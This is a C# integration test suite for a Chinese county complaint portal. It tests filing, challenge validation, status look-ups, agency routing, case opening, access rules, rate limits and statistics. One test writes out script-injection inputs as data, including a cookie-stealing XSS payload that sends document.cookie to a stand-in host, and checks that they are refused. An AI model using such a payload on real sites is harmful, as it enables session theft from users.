using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using System.Text.RegularExpressions;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Sanxiang.Core;
using Sanxiang.Core.Supervision.Complaints;
using Sanxiang.Data.Supervision;
using Sanxiang.Web.Supervision.Complaints;
using Sanxiang.Web.Tests.Accounts;
using Sanxiang.Web.Tests.Infrastructure;

namespace Sanxiang.Web.Tests.Supervision.Complaints;

/// <summary>
/// 投诉举报 through the HTTP pipeline on both databases (PLT-3): the portal form and its challenge, the receipt and the status
/// page, routing, acceptance, the answer, a case opened on a complaint, who sees what, every bad input refused with nothing
/// stored, the per-address limits, and the figures against an independent count.
/// </summary>
public abstract partial class ComplaintTests(SanxiangApp app)
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;
    private static int _address;

    /// <summary>A client at an address of its own (the per-address limits hold across the shared host).</summary>
    private HttpClient Citizen() =>
        app.ClientFrom(new IPAddress([10, 77, (byte)((Interlocked.Increment(ref _address) >> 8) & 0xff), (byte)(_address & 0xff)]));

    private static string Marker() => Guid.NewGuid().ToString("N")[..10];

    /// <summary>A challenge served a minute ago (past the minimum fill time), solved as the browser's script solves it.</summary>
    private Task<(string Token, string Proof)> SolvedChallengeAsync(TimeSpan? age = null) => app.WithDbAsync((_, sp) =>
    {
        var c = sp.GetRequiredService<ComplaintChallenges>().Issue(DateTimeOffset.UtcNow - (age ?? TimeSpan.FromMinutes(1)));
        return Task.FromResult((c.Token, ComplaintChallenges.Solve(c.Nonce, c.Bits)));
    });

    private async Task<object> ApiComplaintAsync(string marker, string kind = "举报", string agency = "SCJG", string? content = null)
    {
        var (token, proof) = await SolvedChallengeAsync();
        return new
        {
            kind, agencyCode = agency, subject = "测试" + marker, content = content ?? $"城关镇某超市销售过期食品，编号{marker}，请依法查处。",
            respondent = "某超市", place = "城关镇解放路", name = kind == "投诉" ? "张三" : null, phone = kind == "投诉" ? "13812345678" : null,
            consentToContact = kind == "投诉", challengeToken = token, proof,
        };
    }

    private Task<int> StoredAsync(string marker) =>
        app.WithDbAsync((db, _) => db.Complaints.CountAsync(c => c.Subject.Contains(marker) || c.Content.Contains(marker), Ct));

    private static async Task<JsonElement> Ok(HttpResponseMessage response, HttpStatusCode expected = HttpStatusCode.OK)
    {
        var body = await response.Content.ReadAsStringAsync(Ct);
        Assert.True(response.StatusCode == expected, $"{response.StatusCode}: {body}");
        return body.Length == 0 ? default : JsonDocument.Parse(body).RootElement.Clone();
    }

    private static async Task<string> Problem(HttpResponseMessage response, HttpStatusCode expected)
    {
        var body = await response.Content.ReadAsStringAsync(Ct);
        Assert.True(response.StatusCode == expected, $"{response.StatusCode}: {body}");
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        return body;
    }

    private async Task<HttpClient> SupervisorAsync()
    {
        var name = "sfj.sup.c" + Marker()[..6];
        await app.CreateAccountAsync(name, "SFJ", Sanxiang.Core.Accounts.Roles.Supervisor);
        var client = await app.SignInAsync(name);
        await TwoFactorTests.EnrolAsync(app, client);
        return client;
    }

    /// <summary>Posts the portal form as a browser does: the page's anti-forgery token, its fields, the solved challenge.</summary>
    private static async Task<HttpResponseMessage> PostPortalFormAsync(HttpClient client, Dictionary<string, string> fields, string token, string proof)
    {
        var page = await client.GetStringAsync("/complaints", Ct);
        var antiforgery = WebUtility.HtmlDecode(Antiforgery().Match(page).Groups[1].Value);
        var form = new Dictionary<string, string>(fields)
        {
            ["__RequestVerificationToken"] = antiforgery, ["Form.ChallengeToken"] = token, ["Form.Proof"] = proof,
        };
        return await client.PostAsync("/complaints", new FormUrlEncodedContent(form), Ct);
    }

    [Fact]
    public async Task A_complaint_from_the_portal_form_is_accepted_and_answered_and_the_citizen_reads_the_answer_with_the_code()
    {
        var marker = Marker();
        var citizen = Citizen();
        var (token, proof) = await SolvedChallengeAsync();
        var receipt = await PostPortalFormAsync(citizen, new()
        {
            ["Form.Kind"] = "投诉", ["Form.AgencyCode"] = "SCJG", ["Form.Subject"] = "买到过期酸奶" + marker,
            ["Form.Content"] = "11月24日在解放路惠民超市买的酸奶已过保质期，店家只肯退款。请求依法处理。", ["Form.Respondent"] = "安和县惠民超市有限公司",
            ["Form.Place"] = "城关镇解放路22号", ["Form.Name"] = "王五", ["Form.Phone"] = "13812345678", ["Form.ConsentToContact"] = "true",
        }, token, proof);
        var html = await receipt.Content.ReadAsStringAsync(Ct);
        Assert.Equal(HttpStatusCode.OK, receipt.StatusCode);
        var number = TrackingNumber().Match(html).Groups[1].Value;
        var code = QueryCode().Match(html).Groups[1].Value;
        Assert.Matches(@"^TS\d{12}$", number);
        Assert.Equal(10, code.Length);
        Assert.Contains("no-store", receipt.Headers.CacheControl?.ToString() ?? "", StringComparison.Ordinal);

        // Stored once, the code only as its hash; the log entry carries no name, phone or text.
        var (id, hash) = await app.WithDbAsync(async (db, _) =>
        {
            var c = await db.Complaints.SingleAsync(x => x.TrackingNumber == number, Ct);
            return (c.Id, c.QueryCodeHash);
        });
        Assert.Equal(ComplaintDesk.HashCode(number, code), hash);
        var payloads = await app.WithDbAsync((db, _) => db.LedgerEntries.Where(e => e.Kind.StartsWith("complaint-"))
            .Select(e => System.Text.Encoding.UTF8.GetString(e.Payload)).ToListAsync(Ct));
        var mine = payloads.Where(p => p.Contains(number, StringComparison.Ordinal)).ToList();
        Assert.Single(mine);
        Assert.DoesNotContain(mine, p => p.Contains("王五", StringComparison.Ordinal) || p.Contains("13812345678", StringComparison.Ordinal)
            || p.Contains("酸奶", StringComparison.Ordinal));

        // The clerk accepts, the head answers, on the workbench pages.
        var clerk = await app.SignInAsync("scjg.clerk");
        var accepted = await SanxiangApp.PostFormAsync(clerk, $"/workbench/complaints/{id}", new() { ["action"] = "Accept", ["note"] = "已受理" },
            $"/workbench/complaints/{id}?handler=Step");
        Assert.Contains("已受理，正在办理", await accepted.Content.ReadAsStringAsync(Ct), StringComparison.Ordinal);
        var head = await app.SignInAsync("scjg.head");
        var answerText = "王五：经查，该超市确有销售超过保质期酸奶的行为，我局已立案调查，并责令其下架。" + marker;
        var answered = await SanxiangApp.PostFormAsync(head, $"/workbench/complaints/{id}", new() { ["action"] = "Answer", ["note"] = answerText },
            $"/workbench/complaints/{id}?handler=Step");
        Assert.Contains("已答复", await answered.Content.ReadAsStringAsync(Ct), StringComparison.Ordinal);

        // The status page shows the answer for the right code, and the same refusal for a wrong code and an unknown number.
        var status = await SanxiangApp.PostFormAsync(citizen, "/complaints/status", new() { ["TrackingNumber"] = number, ["QueryCode"] = code.ToLowerInvariant() });
        var statusHtml = await status.Content.ReadAsStringAsync(Ct);
        Assert.Contains(WebUtility.HtmlEncode(answerText), statusHtml, StringComparison.Ordinal);
        Assert.Contains("安和县市场监督管理局", statusHtml, StringComparison.Ordinal);
        Assert.DoesNotContain("王五</", statusHtml, StringComparison.Ordinal);
        var wrong = await (await SanxiangApp.PostFormAsync(citizen, "/complaints/status", new() { ["TrackingNumber"] = number, ["QueryCode"] = "ABCDEFGHJK" }))
            .Content.ReadAsStringAsync(Ct);
        var unknown = await (await SanxiangApp.PostFormAsync(citizen, "/complaints/status", new() { ["TrackingNumber"] = "TS209901019999", ["QueryCode"] = code }))
            .Content.ReadAsStringAsync(Ct);
        foreach (var refused in new[] { wrong, unknown })
        {
            Assert.Contains("没有查到与该受理编号和查询码相符的投诉举报", refused, StringComparison.Ordinal);
            Assert.DoesNotContain(WebUtility.HtmlEncode(answerText), refused, StringComparison.Ordinal);
        }

        // The API says the same.
        var api = await Ok(await citizen.PostAsJsonAsync("/api/v1/public/complaints/status", new { trackingNumber = number, queryCode = code }, Ct));
        Assert.Equal("Answered", api.GetProperty("status").GetString());
        Assert.Equal(answerText, api.GetProperty("reply").GetString());
        await Problem(await citizen.PostAsJsonAsync("/api/v1/public/complaints/status", new { trackingNumber = number, queryCode = "ABCDEFGHJK" }, Ct),
            HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task An_accepted_report_opens_a_case_with_the_source_complaint_and_the_two_are_linked()
    {
        var marker = Marker();
        var citizen = Citizen();
        var receipt = await Ok(await citizen.PostAsJsonAsync("/api/v1/public/complaints", await ApiComplaintAsync(marker), Ct), HttpStatusCode.Created);
        var number = receipt.GetProperty("trackingNumber").GetString()!;
        Assert.Equal("Assigned", receipt.GetProperty("status").GetString());
        var id = await app.WithDbAsync((db, _) => db.Complaints.Where(c => c.TrackingNumber == number).Select(c => c.Id).SingleAsync(Ct));
        var head = await app.SignInAsync("scjg.head");
        await Ok(await head.PostAsJsonAsync($"/api/v1/complaints/{id}/steps", new { action = "Accept" }, Ct));
        var officers = await app.WithDbAsync((db, _) => db.Users.Where(u => u.UserName == "scjg.officer" || u.UserName == "scjg.officer2")
            .OrderBy(u => u.UserName).Select(u => u.OfficerId!.Value).ToListAsync(Ct));
        var creditCode = Sanxiang.Web.Tests.Inspection.InspectionPlanTests.CreditCode(700_000 + Random.Shared.Next(99_999));
        var detail = await Ok(await head.PostAsJsonAsync($"/api/v1/complaints/{id}/case", new
        {
            itemCode = "360736-SCJG-CF-001", cause = "涉嫌经营超过保质期的食品案" + marker, source = "监督检查",
            party = new { kind = "Organisation", name = "安和县测试超市" + marker, creditCode, representative = "王某", address = "安和县城关镇解放路1号" },
            occurredOn = ChinaTime.Today(TimeProvider.System).AddDays(-3).ToString("yyyy-MM-dd", System.Globalization.CultureInfo.InvariantCulture),
            officerIds = officers, leadOfficerId = officers[0],
        }, Ct), HttpStatusCode.Created);
        Assert.Equal("CaseOpened", detail.GetProperty("status").GetString());
        var caseId = detail.GetProperty("caseId").GetGuid();
        var source = await app.WithDbAsync((db, _) => db.Cases.Where(c => c.Id == caseId).Select(c => c.Source).SingleAsync(Ct));
        Assert.Equal("投诉举报", source);

        // Opening again is refused: the complaint is no longer merely accepted; no second case.
        var again = await Problem(await head.PostAsJsonAsync($"/api/v1/complaints/{id}/case", new { itemCode = "360736-SCJG-CF-001" }, Ct), HttpStatusCode.Conflict);
        Assert.Contains("不能立案", again, StringComparison.Ordinal);
        Assert.Equal(1, await app.WithDbAsync((db, _) => db.Cases.CountAsync(c => c.Cause.Contains(marker), Ct)));

        // An answer after the case; then the case shows on the status page as opened.
        await Ok(await head.PostAsJsonAsync($"/api/v1/complaints/{id}/steps", new { action = "Answer", note = "已立案调查，处理结果将依法公示。" }, Ct));
        var code = receipt.GetProperty("queryCode").GetString()!;
        var status = await Ok(await citizen.PostAsJsonAsync("/api/v1/public/complaints/status", new { trackingNumber = number, queryCode = code }, Ct));
        Assert.True(status.GetProperty("caseOpened").GetBoolean());
        Assert.Equal("Answered", status.GetProperty("status").GetString());
    }

    [Fact]
    public async Task Two_cases_opened_on_one_complaint_at_the_same_moment_leave_one_case_and_one_refusal()
    {
        var marker = Marker();
        var receipt = await Ok(await Citizen().PostAsJsonAsync("/api/v1/public/complaints", await ApiComplaintAsync(marker), Ct), HttpStatusCode.Created);
        var number = receipt.GetProperty("trackingNumber").GetString()!;
        var id = await app.WithDbAsync((db, _) => db.Complaints.Where(c => c.TrackingNumber == number).Select(c => c.Id).SingleAsync(Ct));
        var head = await app.SignInAsync("scjg.head");
        await Ok(await head.PostAsJsonAsync($"/api/v1/complaints/{id}/steps", new { action = "Accept" }, Ct));
        var officers = await app.WithDbAsync((db, _) => db.Users.Where(u => u.UserName == "scjg.officer" || u.UserName == "scjg.officer2")
            .OrderBy(u => u.UserName).Select(u => u.OfficerId!.Value).ToListAsync(Ct));
        object Request(int n) => new
        {
            itemCode = "360736-SCJG-CF-001", cause = $"涉嫌销售不符合食品安全标准的食品案{marker}-{n}",
            party = new
            {
                kind = "Organisation", name = "安和县并发测试商行" + marker,
                creditCode = Sanxiang.Web.Tests.Inspection.InspectionPlanTests.CreditCode(800_000 + Random.Shared.Next(99_999)),
                representative = "李某", address = "安和县城关镇解放路2号",
            },
            occurredOn = ChinaTime.Today(TimeProvider.System).AddDays(-2).ToString("yyyy-MM-dd", System.Globalization.CultureInfo.InvariantCulture),
            officerIds = officers, leadOfficerId = officers[0],
        };

        var second = await app.SignInAsync("scjg.head");
        var responses = await Task.WhenAll(head.PostAsJsonAsync($"/api/v1/complaints/{id}/case", Request(1), Ct),
            second.PostAsJsonAsync($"/api/v1/complaints/{id}/case", Request(2), Ct));
        var statuses = responses.Select(r => r.StatusCode).Order().ToList();
        Assert.True(statuses.SequenceEqual([HttpStatusCode.Created, HttpStatusCode.Conflict]),
            string.Join(" | ", await Task.WhenAll(responses.Select(async r => $"{r.StatusCode}: {await r.Content.ReadAsStringAsync(Ct)}"))));

        // Exactly one case, and it is the one the complaint links to; the refused opening left neither case nor log entry.
        var (cases, linked, logged) = await app.WithDbAsync(async (db, _) => (
            await db.Cases.Where(c => c.Cause.Contains(marker)).Select(c => c.Id).ToListAsync(Ct),
            await db.Complaints.Where(c => c.Id == id).Select(c => c.CaseId).SingleAsync(Ct),
            await db.LedgerEntries.CountAsync(e => e.Kind == "complaint-opencase" && e.AgencyId != null && db.Cases.Any(c => c.Id == e.CaseId && c.Cause.Contains(marker)), Ct)));
        Assert.Equal(linked, Assert.Single(cases));
        Assert.Equal(1, logged);
    }

    [Fact]
    public async Task An_unrouted_complaint_is_routed_by_a_supervisor_who_sees_every_agency_while_agencies_see_only_their_own()
    {
        var marker = Marker();
        var receipt = await Ok(await Citizen().PostAsJsonAsync("/api/v1/public/complaints", await ApiComplaintAsync(marker, agency: ""), Ct), HttpStatusCode.Created);
        Assert.Equal("Submitted", receipt.GetProperty("status").GetString());
        var number = receipt.GetProperty("trackingNumber").GetString()!;
        var id = await app.WithDbAsync((db, _) => db.Complaints.Where(c => c.TrackingNumber == number).Select(c => c.Id).SingleAsync(Ct));

        var supervisor = await SupervisorAsync();
        var scjg = await app.SignInAsync("scjg.head");
        var zhzf = await app.SignInAsync("zhzf.head");
        // Unrouted: only the county sees it.
        Assert.Contains(number, await supervisor.GetStringAsync("/api/v1/complaints?status=Submitted", Ct), StringComparison.Ordinal);
        Assert.DoesNotContain(number, await scjg.GetStringAsync("/api/v1/complaints", Ct), StringComparison.Ordinal);
        await Problem(await scjg.GetAsync($"/api/v1/complaints/{id}", Ct), HttpStatusCode.NotFound);
        // An agency cannot route; the supervisor routes to ZHZF.
        await Problem(await scjg.PostAsJsonAsync($"/api/v1/complaints/{id}/steps", new { action = "Route", agencyCode = "SCJG" }, Ct), HttpStatusCode.NotFound);
        var routed = await Ok(await supervisor.PostAsJsonAsync($"/api/v1/complaints/{id}/steps", new { action = "Route", agencyCode = "ZHZF", note = "请依职责办理" }, Ct));
        Assert.Equal("ZHZF", routed.GetProperty("agencyCode").GetString());
        Assert.Equal("Assigned", routed.GetProperty("status").GetString());

        // Agency B (ZHZF) sees and may accept it; agency A (SCJG) sees nothing and may do nothing, on the API and the pages.
        Assert.Contains("Accept", (await Ok(await zhzf.GetAsync($"/api/v1/complaints/{id}", Ct))).GetProperty("nextActions").EnumerateArray().Select(e => e.GetString()));
        await Problem(await scjg.GetAsync($"/api/v1/complaints/{id}", Ct), HttpStatusCode.NotFound);
        await Problem(await scjg.PostAsJsonAsync($"/api/v1/complaints/{id}/steps", new { action = "Accept" }, Ct), HttpStatusCode.NotFound);
        Assert.Equal(HttpStatusCode.NotFound, (await scjg.GetAsync($"/workbench/complaints/{id}", Ct)).StatusCode);
        Assert.DoesNotContain(number, await scjg.GetStringAsync("/workbench/complaints", Ct), StringComparison.Ordinal);
        Assert.Contains(number, await zhzf.GetStringAsync("/workbench/complaints", Ct), StringComparison.Ordinal);
        Assert.Contains(number, await supervisor.GetStringAsync("/workbench/complaints", Ct), StringComparison.Ordinal);
        // Officers do not read complaints (the complainant's details are need-to-know).
        Assert.Equal(HttpStatusCode.Forbidden, (await (await app.SignInAsync("scjg.officer")).GetAsync("/api/v1/complaints", Ct)).StatusCode);

        // ZHZF sends it back as not its duty; the supervisor follows up and re-routes to SCJG, which accepts.
        await Ok(await zhzf.PostAsJsonAsync($"/api/v1/complaints/{id}/steps", new { action = "Return", note = "食品安全不属于综合执法职责" }, Ct), HttpStatusCode.NoContent);
        await Problem(await zhzf.GetAsync($"/api/v1/complaints/{id}", Ct), HttpStatusCode.NotFound);
        await Ok(await supervisor.PostAsJsonAsync($"/api/v1/complaints/{id}/steps", new { action = "FollowUp", note = "请尽快转办" }, Ct));
        await Ok(await supervisor.PostAsJsonAsync($"/api/v1/complaints/{id}/steps", new { action = "Route", agencyCode = "SCJG" }, Ct));
        // A supervisor may not accept in the agency's stead.
        Assert.Contains("受理由承办该件", await Problem(await supervisor.PostAsJsonAsync($"/api/v1/complaints/{id}/steps", new { action = "Accept" }, Ct),
            HttpStatusCode.Forbidden), StringComparison.Ordinal);
        var accepted = await Ok(await scjg.PostAsJsonAsync($"/api/v1/complaints/{id}/steps", new { action = "Accept" }, Ct));
        Assert.Equal(["提交", "转办", "退回重新转办", "督办", "转办", "受理"],
            accepted.GetProperty("steps").EnumerateArray().Select(s => s.GetProperty("action").GetString()!).ToArray());
        var events = await app.WithDbAsync((db, _) => db.LedgerEntries.CountAsync(e => e.Kind.StartsWith("complaint-"), Ct));
        Assert.True(events >= 6);
    }

    [Fact]
    public async Task Bad_input_is_refused_with_a_clear_reason_and_nothing_stored()
    {
        var marker = Marker();
        var citizen = Citizen();
        async Task<string> Refused(object body, HttpStatusCode expected = HttpStatusCode.BadRequest) =>
            await Problem(await Citizen().PostAsJsonAsync("/api/v1/public/complaints", body, Ct), expected);

        // 1 MB of text: the field, its limit and what was received.
        var huge = await Refused(await ApiComplaintAsync(marker, content: marker + new string('长', 1_048_576)));
        Assert.Contains("不得超过 2,000 字", huge, StringComparison.Ordinal);
        // Script and markup.
        Assert.Contains("脚本", await Refused(await ApiComplaintAsync(marker, content: $"请看<script>alert('{marker}')</script>这里有问题")), StringComparison.Ordinal);
        // Missing fields: a 投诉 without contact details, no subject, no kind.
        var (t0, p0) = await SolvedChallengeAsync();
        var missing = await Refused(new { kind = "投诉", agencyCode = "SCJG", content = "城关镇有人违法经营，请查处。" + marker, challengeToken = t0, proof = p0 });
        Assert.Contains("请填写标题", missing, StringComparison.Ordinal);
        Assert.Contains("投诉须填写姓名", missing, StringComparison.Ordinal);
        Assert.Contains("人机验证", await Refused(new { kind = "举报", subject = "测试" + marker, content = "内容内容内容内容内容" + marker }), StringComparison.Ordinal);
        // An unknown agency.
        var (t1, p1) = await SolvedChallengeAsync();
        Assert.Contains("没有代码为“NOPE”", await Refused(new { kind = "举报", agencyCode = "NOPE", subject = "测试" + marker,
            content = "城关镇有人违法经营，请查处。" + marker, challengeToken = t1, proof = p1 }), StringComparison.Ordinal);

        // Bad challenges: forged, wrong proof and answer, honeypot filled, too fast, expired.
        var good = await ApiComplaintAsync(marker);
        Assert.Contains("无效", await Refused(new { kind = "举报", subject = "测试" + marker, content = "城关镇有人违法经营，请查处。" + marker, challengeToken = "Zm9yZ2Vk", proof = "1" }),
            StringComparison.Ordinal);
        var (t2, _) = await SolvedChallengeAsync();
        Assert.Contains("答案不正确", await Refused(new { kind = "举报", subject = "测试" + marker, content = "城关镇有人违法经营，请查处。" + marker, challengeToken = t2,
            proof = "x", answer = "99" }), StringComparison.Ordinal);
        var (t3, p3) = await SolvedChallengeAsync();
        Assert.Contains("不应填写", await Refused(new { kind = "举报", subject = "测试" + marker, content = "城关镇有人违法经营，请查处。" + marker, challengeToken = t3,
            proof = p3, website = "http://spam.example" }), StringComparison.Ordinal);
        var (t4, p4) = await SolvedChallengeAsync(TimeSpan.Zero);
        Assert.Contains("提交过快", await Refused(new { kind = "举报", subject = "测试" + marker, content = "城关镇有人违法经营，请查处。" + marker, challengeToken = t4,
            proof = p4 }), StringComparison.Ordinal);
        var (t5, p5) = await SolvedChallengeAsync(TimeSpan.FromHours(2));
        Assert.Contains("已过期", await Refused(new { kind = "举报", subject = "测试" + marker, content = "城关镇有人违法经营，请查处。" + marker, challengeToken = t5,
            proof = p5 }), StringComparison.Ordinal);
        Assert.Equal(0, await StoredAsync(marker));

        // The portal form: 1 MB of text (UTF-8) and script are refused on a Chinese page with the form kept, not a bare 400 or 413.
        var portal = Citizen();
        var (t6, p6) = await SolvedChallengeAsync();
        var megabyte = new string('长', 1024 * 1024 / 3);
        var page = await PostPortalFormAsync(portal, new()
        {
            ["Form.Kind"] = "举报", ["Form.Subject"] = "测试" + marker, ["Form.Content"] = marker + megabyte,
        }, t6, p6);
        var html = await page.Content.ReadAsStringAsync(Ct);
        Assert.Equal(HttpStatusCode.OK, page.StatusCode);
        Assert.Contains($"投诉举报内容不得超过 2,000 字，您填写了 {marker.Length + megabyte.Length:N0} 字", html, StringComparison.Ordinal);
        var (t7, p7) = await SolvedChallengeAsync();
        var script = await (await PostPortalFormAsync(portal, new()
        {
            ["Form.Kind"] = "举报", ["Form.Subject"] = "测试" + marker, ["Form.Content"] = "<script>document.location='http://x/'+document.cookie</script>" + marker,
        }, t7, p7)).Content.ReadAsStringAsync(Ct);
        Assert.Contains("含有网页标记或脚本代码", script, StringComparison.Ordinal);
        Assert.DoesNotContain("<script>document.location", script, StringComparison.Ordinal);
        Assert.Equal(0, await StoredAsync(marker));

        // A token works once: the same solved token again is refused, and only the first complaint is stored.
        await Ok(await citizen.PostAsJsonAsync("/api/v1/public/complaints", good, Ct), HttpStatusCode.Created);
        Assert.Contains("已经提交过一次", await Problem(await Citizen().PostAsJsonAsync("/api/v1/public/complaints", good, Ct), HttpStatusCode.Conflict),
            StringComparison.Ordinal);
        Assert.Equal(1, await StoredAsync(marker));
    }

    [Fact]
    public async Task Filing_and_status_look_ups_are_limited_per_address_and_the_refusal_is_Chinese()
    {
        var marker = Marker();
        var client = Citizen();
        for (var i = 0; i < 5; i++)
        {
            await Ok(await client.PostAsJsonAsync("/api/v1/public/complaints", await ApiComplaintAsync(marker + i), Ct), HttpStatusCode.Created);
        }

        var sixth = await Problem(await client.PostAsJsonAsync("/api/v1/public/complaints", await ApiComplaintAsync(marker + "x"), Ct), HttpStatusCode.TooManyRequests);
        Assert.Contains("一小时内提交投诉举报超过 5 次", sixth, StringComparison.Ordinal);
        Assert.Equal(0, await StoredAsync(marker + "x"));
        // The portal form from the same address is limited as well, with a Chinese page.
        var page = await client.PostAsync("/complaints", new FormUrlEncodedContent(new Dictionary<string, string> { ["Form.Kind"] = "举报" }), Ct);
        Assert.Equal(HttpStatusCode.TooManyRequests, page.StatusCode);
        Assert.Contains("提交过于频繁", await page.Content.ReadAsStringAsync(Ct), StringComparison.Ordinal);
        // Another address is not affected.
        await Ok(await Citizen().PostAsJsonAsync("/api/v1/public/complaints", await ApiComplaintAsync(marker + "y"), Ct), HttpStatusCode.Created);

        // Guessing codes: 30 look-ups an hour, then 429.
        var guesser = Citizen();
        for (var i = 0; i < 30; i++)
        {
            await Problem(await guesser.PostAsJsonAsync("/api/v1/public/complaints/status", new { trackingNumber = "TS202611280001", queryCode = $"ABCDEFGH{i:D2}" }, Ct),
                HttpStatusCode.NotFound);
        }

        Assert.Contains("查询办理进度超过", await Problem(await guesser.PostAsJsonAsync("/api/v1/public/complaints/status",
            new { trackingNumber = "TS202611280001", queryCode = "ABCDEFGHJK" }, Ct), HttpStatusCode.TooManyRequests), StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_figures_equal_an_independent_count_of_every_complaint()
    {
        // Some complaints of this test, in several states, on top of the demo county's and other tests'.
        var marker = Marker();
        var client = Citizen();
        var ids = new List<Guid>();
        foreach (var agency in new[] { "SCJG", "SCJG", "" })
        {
            var number = (await Ok(await client.PostAsJsonAsync("/api/v1/public/complaints", await ApiComplaintAsync(marker, agency: agency), Ct), HttpStatusCode.Created))
                .GetProperty("trackingNumber").GetString();
            ids.Add(await app.WithDbAsync((db, _) => db.Complaints.Where(c => c.TrackingNumber == number).Select(c => c.Id).SingleAsync(Ct)));
        }

        var head = await app.SignInAsync("scjg.head");
        await Ok(await head.PostAsJsonAsync($"/api/v1/complaints/{ids[0]}/steps", new { action = "Reject", note = "线索不具体，无法核查。" }, Ct));

        var today = ChinaTime.Today(TimeProvider.System);
        var from = today.AddDays(-90);
        var (figures, all) = await app.WithDbAsync(async (db, _) =>
            (await ComplaintFigures.ComputeAsync(db, from, today, today, Ct), await db.Complaints.AsNoTracking().ToListAsync(Ct)));
        var period = all.Where(c => c.ReceivedOn >= from && c.ReceivedOn <= today).ToList();
        Assert.Equal(period.Count, figures.County.Received);
        Assert.Equal(period.Count(c => c.IsOpen), figures.County.Open);
        Assert.Equal(period.Count(c => c.RepliedOn is not null), figures.County.Answered);
        Assert.Equal(period.Count(c => c.RepliedOn is { } r && r <= c.ReplyDueOn), figures.County.AnsweredOnTime);
        Assert.Equal(period.Count(c => c.IsOverdue(today)), figures.County.OverdueOpen);
        foreach (var row in figures.Agencies)
        {
            var mine = period.Where(c => c.AgencyId == row.AgencyId).ToList();
            Assert.Equal(mine.Count, row.Received);
            Assert.Equal(mine.Count(c => c.IsOverdue(today)), row.OverdueOpen);
            Assert.Equal(mine.Count(c => c.RepliedOn is not null), row.Answered);
        }

        // The demo county has complaints in every state, and overdue ones.
        Assert.Equal(Enum.GetValues<ComplaintStatus>().Length, all.Select(c => c.Status).Distinct().Count());
        Assert.Contains(all, c => c.IsOverdue(today));
        // The API gives the same table to a head (own agency) and a supervisor (all).
        var api = await Ok(await head.GetAsync($"/api/v1/complaints/figures?from={from:yyyy-MM-dd}&to={today:yyyy-MM-dd}", Ct));
        var scjg = figures.Agencies.Single(r => r.AgencyCode == "SCJG");
        Assert.Equal(scjg.Received, api.GetProperty("county").GetProperty("received").GetInt32());

        // The endpoints are in the OpenAPI document like the others.
        var openapi = await app.Client().GetStringAsync("/openapi/v1.json", Ct);
        foreach (var path in new[] { "/api/v1/public/complaints", "/api/v1/public/complaints/status", "/api/v1/complaints/{id}/steps", "/api/v1/complaints/figures" })
        {
            Assert.Contains($"\"{path}\"", openapi, StringComparison.Ordinal);
        }
    }

    [GeneratedRegex("data-testid=\"tracking-number\">(TS\\d+)<")]
    private static partial Regex TrackingNumber();

    [GeneratedRegex("data-testid=\"query-code\">([A-Z0-9]{10})<")]
    private static partial Regex QueryCode();

    [GeneratedRegex("name=\"__RequestVerificationToken\" type=\"hidden\" value=\"([^\"]+)\"")]
    private static partial Regex Antiforgery();
}

public sealed class ComplaintTestsOnSqlite(SqliteApp app) : ComplaintTests(app);

public sealed class ComplaintTestsOnPostgres(PostgresApp app) : ComplaintTests(app);
